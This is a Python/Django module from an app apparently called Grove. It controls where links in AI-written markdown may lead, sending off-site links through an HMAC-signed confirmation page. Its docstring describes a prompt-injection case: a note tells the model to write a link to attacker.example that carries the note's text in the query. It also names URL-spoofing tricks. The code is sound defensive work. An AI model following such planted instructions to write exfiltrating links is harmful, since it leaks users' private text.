"""Where a link written by a model may take a person (issue 36 item 2.4).

Model output is hostile: a note the model read may tell it to write
`[click](https://attacker.example/?d=<the note's text>)`, and a click would carry the
text away. So in model-written markdown (`rendering.render_model_markdown`) every link
is decided here, by its destination:

* **internal** — a citation `note:<uuid>@<version>` (which becomes that revision's
  page), or an address on Grove's own origin (relative, or `GROVE_ORIGINS`) whose path
  is one of the pages a person reads (`READ_PAGES`: the library, a note, a notebook,
  Ask) — stays an ordinary link;
* **off-site** — any other http(s) address — is shown with its full destination as
  text beside it, and its link goes to Grove's confirmation page
  (`/leave/?to=…&sig=…`, `leave_url`), which shows the whole address again and has the
  only real link to it; the signature (HMAC under the secret key) means a third party
  cannot use that page to send people anywhere (`leave_target` refuses what Grove did
  not sign);
* **no link** — every other scheme (`javascript:`, `data:`, `mailto:`, `file:` …),
  anything malformed, and any other address on Grove's own origin (Grove has endpoints
  that act on a GET — the OAuth consent step answers the app a link names, and a link
  followed while signed in could carry text to wherever that app said) — is shown as
  text, never as a link.

Notes are the owner's own text and keep their links as written (`render_markdown`).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Literal
from urllib.parse import urlencode, urljoin, urlsplit

from django.conf import settings
from django.core import signing
from django.urls import Resolver404, resolve, reverse
from django.utils.crypto import constant_time_compare

LEAVE_SALT = "grove.interfaces.links.leave"
LEAVE_URL_MAX_CHARS = 4000  # longer destinations are shown as text, never linked
_CITATION = re.compile(r"note:([0-9a-fA-F-]{36})@([1-9][0-9]{0,8})")
# What a browser would drop from, or read as a separator in, an address: such a
# destination is never linked (e.g. "/\\attacker.example" is "//attacker.example").
_UNSAFE = re.compile(r"[\x00-\x20\x7f\\]")
# The pages of Grove a model may link to as they are: reading them changes nothing and
# answers nobody else.
READ_PAGES = frozenset({"home", "note", "notebook", "ask", "ask-conversation"})


@dataclass(frozen=True)
class Link:
    """What a model-written link becomes: its kind and its address (the href to keep
    for an internal link; the full destination for an off-site one; "" for none)."""

    kind: Literal["internal", "offsite", "none"]
    address: str


def _origin(url: str) -> str | None:
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:
        return None
    if parts.scheme not in ("http", "https") or not parts.hostname:
        return None
    default = {"http": 80, "https": 443}[parts.scheme]
    host = f"[{parts.hostname}]" if ":" in parts.hostname else parts.hostname
    return f"{parts.scheme}://{host}" + (f":{port}" if port and port != default else "")


def _own_origins() -> set[str]:
    return {o for o in (_origin(origin) for origin in settings.GROVE_ORIGINS) if o}


def model_link(href: str) -> Link:
    """The rule for one destination a model wrote (as markdown-it normalised it)."""
    if not href or _UNSAFE.search(href) or len(href) > LEAVE_URL_MAX_CHARS:
        return Link("none", "")
    cited = _CITATION.fullmatch(href)
    if cited:
        return Link("internal", f"{reverse('note', args=[cited[1].lower()])}?v={cited[2]}")
    try:
        scheme = urlsplit(href).scheme.lower()
    except ValueError:
        return Link("none", "")
    if scheme and scheme not in ("http", "https"):
        return Link("none", "")
    absolute = urljoin(settings.GROVE_BASE_URL.rstrip("/") + "/", href)
    origin = _origin(absolute)
    if origin is None:
        return Link("none", "")
    if origin in _own_origins():
        return Link("internal", href) if _is_read_page(absolute) else Link("none", "")
    return Link("offsite", absolute)


def _is_read_page(url: str) -> bool:
    try:
        page = resolve(urlsplit(url).path)
    except Resolver404:
        return False
    return page.url_name in READ_PAGES


def host_of(url: str) -> str:
    """The host (and port) a URL goes to — never its user part, so
    "trusted.example@attacker.example" names the attacker."""
    parts = urlsplit(url)
    host = f"[{parts.hostname}]" if parts.hostname and ":" in parts.hostname \
        else parts.hostname or ""
    return f"{host}:{parts.port}" if parts.port else host


def _signer() -> signing.Signer:
    return signing.Signer(salt=LEAVE_SALT, algorithm="sha256")


def leave_url(destination: str) -> str:
    """Grove's confirmation page for leaving to `destination` (an off-site address)."""
    return f"{reverse('leave')}?" + urlencode(
        {"to": destination, "sig": _signer().signature(destination)})


def leave_target(destination: str, signature: str) -> str | None:
    """`destination` if Grove signed it for the confirmation page (and it is still an
    off-site http(s) address by the rule above), else None."""
    if not destination or not signature:
        return None
    if not constant_time_compare(_signer().signature(destination), signature):
        return None
    link = model_link(destination)
    return destination if link.kind == "offsite" and link.address == destination else None
